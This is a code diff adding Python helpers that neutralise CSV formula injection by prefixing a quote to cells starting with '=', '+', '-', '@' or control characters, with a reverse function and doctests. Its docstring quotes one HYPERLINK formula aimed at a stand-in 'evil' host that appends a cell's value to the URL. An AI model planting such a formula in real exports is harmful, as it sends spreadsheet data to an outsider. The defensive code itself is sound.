@@ -105,6 +105,33 @@ def visible_text(text: object, *, one_line: bool = False) -> str:
     return escaped.replace("\n", "\\n") if one_line else escaped
 
 
+#: First characters that make a spreadsheet read a cell as a formula (OWASP's list for CSV injection).
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def spreadsheet_text(value: Any) -> Any:
+    """``value`` for a CSV a spreadsheet opens: text it would run as a formula gets a ``'`` in front.
+
+    Ids and names come from other teams' exports: ``=HYPERLINK("http://evil/?"&B2)`` as a feature
+    name became a live link. Text already starting with quotes before such a character gets one
+    more, so :func:`csv_text` gives back exactly what was written; anything else is unchanged.
+
+    >>> spreadsheet_text("=1+1"), spreadsheet_text("-2"), spreadsheet_text(-2), spreadsheet_text("a=b")
+    ("'=1+1", "'-2", -2, 'a=b')
+    """
+    return f"'{value}" if isinstance(value, str) and value.lstrip("'").startswith(FORMULA_STARTS) else value
+
+
+def csv_text(value: Any) -> Any:
+    """A field of a CSV written with :func:`spreadsheet_text` as it was before, for programs reading it.
+
+    >>> csv_text("'=1+1"), csv_text("'quoted'")
+    ('=1+1', "'quoted'")
+    """
+    marked = isinstance(value, str) and value.startswith("'") and value.lstrip("'").startswith(FORMULA_STARTS)
+    return value[1:] if marked else value
+
+
 def listed(shown: Sequence[str], *, total: int) -> str:
     """``shown`` joined by commas, then how many of ``total`` items were left out.
 
